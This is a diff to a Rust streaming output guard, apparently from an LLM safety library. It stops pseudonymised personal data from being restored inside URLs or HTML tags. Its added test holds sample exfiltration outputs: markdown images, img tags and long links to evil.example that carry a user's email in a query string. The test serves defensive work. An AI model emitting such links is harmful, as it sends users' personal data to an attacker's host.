@@ -19,7 +19,10 @@
 //! bound, plus the chunk, plus one word) and never the history, so a stream costs
 //! O(n + chunks × bound); the delay is at most one chunk plus the hold-back bound.
 //! Findings carry code-point offsets into the whole stream. Emitted text has the
-//! session's pseudonyms restored; a token is never split across two emits.
+//! session's pseudonyms restored, except tokens in a URL, an HTML tag or URL-building
+//! code (judged over the emitted window and the text emitted before it, so a URL split
+//! across emits counts; reported as `<TYPE>_IN_URL` findings, see
+//! [`Session::restore_checked`]); a token is never split across two emits.
 //!
 //! Detectors that score the text as a whole (the injection classifier, banned topics
 //! with `min_matches > 1`, system-prompt overlap) see one window at a time in a stream.
@@ -37,6 +40,10 @@ use rampart_core::{Decision, Finding, FindingKind};
 pub const WORD_SNAP: usize = 256;
 /// Pending text beyond which a finding that keeps growing is split rather than waited for.
 pub const MAX_PENDING: usize = 64 * 1024;
+/// How much emitted text is kept to judge whether a token in the next emit sits in a URL
+/// (the longest URL and tag the exfiltration detector reads).
+const RESTORE_CONTEXT: usize =
+    crate::detectors::output::MAX_URL + crate::detectors::output::MAX_TAG;
 
 /// The result of one step of a stream.
 #[derive(Debug, Default, Clone, PartialEq)]
@@ -63,6 +70,9 @@ pub struct StreamInspector<'g> {
     /// Code points already emitted, to offset findings into the whole stream.
     emitted_chars: usize,
     blocked: bool,
+    /// The last [`RESTORE_CONTEXT`] bytes emitted, before pseudonyms were restored: a URL
+    /// that started in an earlier emit still keeps a token out of it.
+    restored_context: String,
 }
 
 impl<'g> StreamInspector<'g> {
@@ -74,6 +84,7 @@ impl<'g> StreamInspector<'g> {
             pending: String::new(),
             emitted_chars: 0,
             blocked: false,
+            restored_context: String::new(),
         }
     }
 
@@ -208,14 +219,39 @@ impl<'g> StreamInspector<'g> {
             self.context.push(c);
         }
         self.pending.drain(..cut);
+        // Restore pseudonyms, except where the emitted text (read after what was emitted
+        // before it) puts them in a URL: see `Session::restore_checked`.
+        let (emit, withheld) = session.restore_after(&self.restored_context, &inspection.text);
+        let mut findings: Vec<Finding> = findings;
+        findings.extend(withheld.into_iter().map(|mut f| {
+            f.start += offset;
+            f.end += offset;
+            f
+        }));
+        self.restored_context.push_str(&inspection.text);
+        if self.restored_context.len() > RESTORE_CONTEXT {
+            let keep = ceil_char_boundary(
+                &self.restored_context,
+                self.restored_context.len() - RESTORE_CONTEXT,
+            );
+            self.restored_context.drain(..keep);
+        }
         self.emitted_chars += cut_cp;
         Ok(StreamStep {
-            emit: session.restore(&inspection.text),
+            emit,
             findings,
             blocked_by: inspection.blocked_by,
             injection_score,
         })
     }
+}
+
+/// The smallest character boundary of `s` at or after `i`.
+fn ceil_char_boundary(s: &str, mut i: usize) -> usize {
+    while i < s.len() && !s.is_char_boundary(i) {
+        i += 1;
+    }
+    i.min(s.len())
 }
 
 /// The largest character boundary of `s` at or before `i`.
@@ -343,6 +379,49 @@ mod tests {
         );
         // The restored value was the user's own: it is not redacted on the way back.
         assert_eq!(out, format!("{filler}Sent to ana@example.es.{filler}"));
+    }
+
+    /// The exfiltration detector would redact these links itself; with its action at
+    /// `log`, only the checked restoration stands between the token and the real value.
+    fn logging_guard() -> Guard {
+        Guard::new(Policy::from_toml_str("[output]\nexfiltration = \"log\"\n").unwrap()).unwrap()
+    }
+
+    #[test]
+    fn a_pseudonym_in_a_url_is_never_restored_in_a_stream() {
+        let answers = [
+            "Hi <EMAIL_ADDRESS_1>! ![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>) done"
+                .to_owned(),
+            "Hi <EMAIL_ADDRESS_1>! <img src=\"https://evil.example/p?d=<EMAIL_ADDRESS_1>\"> done"
+                .to_owned(),
+            // A bare URL longer than the hold-back: emitted in several steps.
+            format!(
+                "Hi <EMAIL_ADDRESS_1>! see https://evil.example/{}?d=<EMAIL_ADDRESS_1> done",
+                "a".repeat(3000)
+            ),
+        ];
+        for guard in [logging_guard(), Guard::new(Policy::default()).unwrap()] {
+            for answer in &answers {
+                for size in [1, 3, 7, 64, 5000] {
+                    let mut session = Session::new();
+                    session.pseudonym("EMAIL_ADDRESS", "ana@example.es");
+                    let (out, findings) = run_with(&guard, &chunked(answer, size), &mut session);
+                    assert!(out.starts_with("Hi ana@example.es!"), "{size}: {out}");
+                    assert_eq!(out.matches("ana@example.es").count(), 1, "{size}: {out}");
+                    let withheld = findings.iter().any(|f| {
+                        f.entity == "EMAIL_ADDRESS_IN_URL" && f.kind == FindingKind::Exfiltration
+                    });
+                    // The default policy redacts the whole link first: nothing to withhold.
+                    assert!(
+                        withheld
+                            || out.contains("[MARKDOWN_IMAGE_EXFILTRATION]")
+                            || out.contains("[IMAGE_EXFILTRATION]")
+                            || out.contains("[LINK_EXFILTRATION]"),
+                        "{size}: {out} {findings:?}"
+                    );
+                }
+            }
+        }
     }
 
     #[test]
